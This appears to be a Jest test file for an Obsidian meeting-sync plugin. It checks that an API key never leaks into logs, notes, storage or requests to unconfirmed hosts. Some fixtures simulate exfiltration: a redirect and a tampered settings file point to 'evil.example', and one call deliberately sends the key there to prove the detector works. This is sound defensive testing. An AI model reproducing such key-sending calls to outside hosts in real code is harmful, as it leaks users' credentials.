/** @jest-environment <rootDir>/test/support/plugin/jsdom-environment.cjs */
// A canary key in Obsidian's secret storage goes through every failure that the plugin knows, with servers
// that repeat it. It must be only in one header of requests to the confirmed address, and not in anything shown or stored.
import { openDB } from "idb";
import { Notice, requestUrl } from "../../support/obsidian";
import { depth } from "../../support/depth";
import { canary, echoesOf, holdsCanary } from "../../support/api/canary";
import { ADDRESS, SECRET } from "../../support/plugin/plugin-fixture";
import { testConnection } from "../../support/plugin/plugin-user";
import { wireAccount, wireDecision, wireMeeting, wirePage } from "../../support/api/wire-samples";
import { startRecorded, type RecordedPlugin, type Reply } from "./recorded-plugin";

afterEach(() => void jest.restoreAllMocks());

const ORIGIN = new URL(ADDRESS).origin;
const echo = echoesOf(canary).join(" ");

/** The plugin on a device whose user confirmed the address. */
function connected({ key = canary, timeout = 5_000 } = {}): Promise<RecordedPlugin> {
  return startRecorded({ data: { baseUrl: ADDRESS }, confirmed: true, key, timeout });
}

async function expectSecrecy({ output, sent }: RecordedPlugin): Promise<void> {
  const traces = (await output()).split("\n").filter(holdsCanary);
  expect(traces).toEqual([]);
  for (const { headers, ...rest } of sent) {
    expect(new URL(rest.url).origin).toBe(ORIGIN);
    const { authorization, ...others } = headers ?? {};
    expect(authorization).toBe(`Bearer ${canary}`);
    expect(holdsCanary(JSON.stringify([rest, others]))).toBe(false);
  }
}

const answering =
  (body: unknown): Reply =>
  () => ({ status: 200, body: JSON.stringify(body) });
const isAuth = ({ url }: { url: string }) => url.endsWith("/auth");
const ordinary: Reply = (request) => answering(isAuth(request) ? wireAccount() : wirePage())(request);

const failing =
  (status: number, body = JSON.stringify({ error: echo, retryAfter: echo })): Reply =>
  () => ({ status, body, headers: { "Retry-After": echo, "X-RateLimit-Reset": echo, "Set-Cookie": echo } });

const throwing =
  (text: string): Reply =>
  () => {
    const cause = Object.assign(new Error(text), { code: canary });
    throw Object.assign(new Error(`${text} ${echo}`, { cause }), { headers: { authorization: canary } });
  };

const tooLong = () => new TextEncoder().encode(echo.repeat(Math.ceil(21e6 / echo.length))).buffer;

/** One of each kind; all others are tried in a deep run. */
const failures: readonly (readonly [what: string, reply: Reply])[] = [
  ["status 401", failing(401)],
  ["a redirect", () => ({ status: 302, headers: { Location: `https://evil.example/${encodeURIComponent(echo)}` } })],
  ["no server", throwing("net::ERR_CONNECTION_REFUSED")],
  ["broken JSON", failing(200, `{"meetings":"${echo}`)],
];
const others: typeof failures = [
  ["an answer of 21 MB", () => ({ status: 200, body: tooLong() })],
  ...[204, 400, 403, 404, 407, 408, 413, 429, 500, 503, 999].map((status): (typeof failures)[number] => [
    `status ${status}`,
    failing(status),
  ]),
  ["headers that are none", () => ({ status: 200, headers: { "X-Key": `${echo}\u0000` } })],
  ["a key that is not valid", answering({ valid: false, error: echo })],
  ["another shape", answering({ valid: true, userId: [echo], meetings: echo })],
  ["a refused redirect", throwing("net::ERR_UNSAFE_REDIRECT")],
  ["a web page", failing(200, `<html><title>${echo}</title>${echo}</html>`)],
];
const tried = depth < 1 ? failures : [...failures, ...others];

describe("The key is never shown, logged or stored", () => {
  /** Asks for the account, then for meetings, and for a report of it. */
  async function ask(recorded: RecordedPlugin, what: string, reply: Reply): Promise<void> {
    const { screen, run, app } = recorded;
    const before = recorded.sent.length;
    recorded.reply = reply;
    await testConnection(screen);
    await run("sync-now");
    recorded.reply = (request) => (isAuth(request) ? ordinary : reply)(request);
    await run("full-sync");
    await screen.press("Help and troubleshooting");
    await screen.press("Diagnostic report");
    await screen.back();
    expect([what, recorded.sent.length - before > 2]).toEqual([what, true]);
    expect([what, app.statusBarEl.textContent]).toEqual([
      what,
      expect.stringMatching(/failed|refused|not reached/) as string,
    ]);
  }

  it(`when the response is ${tried.map(([what]) => what).join(", ")}`, async () => {
    const recorded = await connected();
    await recorded.run("open-status");
    for (const [what, reply] of tried) await ask(recorded, what, reply);
    await expectSecrecy(recorded);
  });

  it("when there is no response", async () => {
    const recorded = await connected({ timeout: 100 });
    await recorded.run("open-status");
    await ask(recorded, "silence", () => new Promise(() => undefined));
    await expectSecrecy(recorded);
  });
});

/** A meeting that repeats the key in every text. */
function telling(text: string, at: number): Record<string, unknown> {
  const notesMarkdown = `---\ntags: [x, "${text}"]\n---\n\n# ${text}\n\n${text}\n`;
  const texts = { fileName: `${text}.md`, folder: text, notesMarkdown };
  const decisions = [wireDecision({ ...texts, decision: text })];
  return wireMeeting({ ...texts, id: `0b0fa3a4-8a4d-4a3c-9d3e-6f0f2c1f7a1${at}`, title: text, decisions });
}

describe("A service that repeats the key", () => {
  it("in meetings does not get it into a note, name or record", async () => {
    const recorded = await connected();
    const { run, screen, notes } = recorded;
    const account = wireAccount({ settings: { meetings_folder: echo, decisions_folder: echo, template_id: echo } });
    const page = wirePage([...echoesOf(canary).map(telling), wireMeeting({ id: canary })]);
    recorded.reply = (request) => answering(isAuth(request) ? account : page)(request);
    await testConnection(screen);
    await run("preview-sync");
    await run("sync-now");
    await run("open-status");
    await expectSecrecy(recorded);
    expect(notes().filter((path) => path.includes("•••"))).toHaveLength(12);
  });

  it("as the account's id is rejected", async () => {
    const recorded = await connected();
    recorded.reply = answering(wireAccount({ userId: canary }));
    await testConnection(recorded.screen);
    await recorded.run("sync-now");
    await expectSecrecy(recorded);
  });
});

describe("The key is neither shown nor sent", () => {
  it("when it cannot be sent in a header", async () => {
    const recorded = await startRecorded({ data: { baseUrl: ADDRESS }, key: canary });
    for (const key of [`${canary}\u0007`, `${canary} ключ`, canary.repeat(40)]) {
      recorded.app.secretStorage.setSecret(SECRET, key);
      await testConnection(recorded.screen);
      await recorded.run("sync-now");
    }
    await expectSecrecy(recorded);
    expect(recorded.sent).toEqual([]);
  });

  it("when another address or another secret came with the vault", async () => {
    const recorded = await connected();
    const { app, run, screen } = recorded;
    recorded.reply = ordinary;
    await run("sync-now");
    const before = recorded.sent.length;
    app.secretStorage.setSecret("another", canary);
    for (const data of [{ baseUrl: "https://evil.example/api" }, { baseUrl: ADDRESS, apiKeySecret: "another" }]) {
      await app.vault.adapter.write(".obsidian/plugins/meeting-notes-sync/data.json", JSON.stringify(data));
      await recorded.idle();
      await run("sync-now");
      expect(screen.has("Confirm the new address")).toBe(true);
      await run("open-status");
    }
    await expectSecrecy(recorded);
    expect(recorded.sent).toHaveLength(before);
  });

  it("when the plugin is disabled while it waits for a response", async () => {
    const recorded = await connected();
    const { app, plugin, screen, sent } = recorded;
    let answer: (() => void) | undefined;
    recorded.reply = () => new Promise((resolve) => (answer = () => resolve({ status: 503 })));
    const pressed = testConnection(screen);
    await recorded.until(() => answer !== undefined);
    const before = sent.length;
    app.plugins.disable(plugin);
    answer?.();
    await pressed;
    // More than the longest pause before another try.
    for (const start = Date.now(); Date.now() < start + 600_000;) await app.settled();
    expect(sent).toHaveLength(before);
    await expectSecrecy(recorded);
  });

  it("when it was changed", async () => {
    const recorded = await connected({ key: "the-key-that-was-there-before" });
    recorded.reply = ordinary;
    await recorded.run("sync-now");
    recorded.app.secretStorage.setSecret(SECRET, canary);
    recorded.reply = failing(401);
    await recorded.run("sync-now");
    const traces = (await recorded.output())
      .split("\n")
      .filter((line) => line.includes("that-was-there") || holdsCanary(line));
    expect(traces).toEqual([]);
  });
});

describe("The recording detects a trace of the key", () => {
  const places: readonly (readonly [where: string, plant: (recorded: RecordedPlugin, text: string) => unknown])[] = [
    ["a notice that is gone", (_, text) => new Notice(text).hide()],
    ["the status bar", ({ app }, text) => app.statusBarEl.setText(text)],
    ["a label", ({ app }, text) => app.statusBarEl.setAttr("aria-label", text)],
    ["the console", (_, text) => console.warn(new Error("x", { cause: new Error(text) }))],
    ["what is copied", (_, text) => navigator.clipboard.writeText(text)],
    ["local storage", ({ app }, text) => app.saveLocalStorage("x", { text })],
    [
      "a database",
      async (_, text) => {
        const db = await openDB("x", 1, { upgrade: (made) => void made.createObjectStore("x") });
        await db.put("x", text, "x");
        db.close();
      },
    ],
    ["a note", ({ app }, text) => app.vault.adapter.write("Note.md", text)],
    ["data.json", ({ app }, text) => app.vault.adapter.write(".obsidian/plugins/meeting-notes-sync/data.json", text)],
  ];

  it(`in ${places.map(([where]) => where).join(", ")}`, async () => {
    const recorded = await connected();
    expect(holdsCanary(await recorded.output())).toBe(false);
    for (const [where, plant] of places) await plant(recorded, `planted in ${where}: ${echo}`);
    const traces = (await recorded.output()).split("\n").filter(holdsCanary);
    const found = ([where]: (typeof places)[number]) => traces.some((trace) => trace.includes(`planted in ${where}:`));
    expect(places.filter((place) => !found(place))).toEqual([]);
  });

  it("on the way to another address", async () => {
    const recorded = await connected();
    recorded.reply = ordinary;
    await requestUrl({ url: "https://evil.example", headers: { authorization: `Bearer ${canary}` } });
    await expect(expectSecrecy(recorded)).rejects.toThrow(/evil/);
  });
});
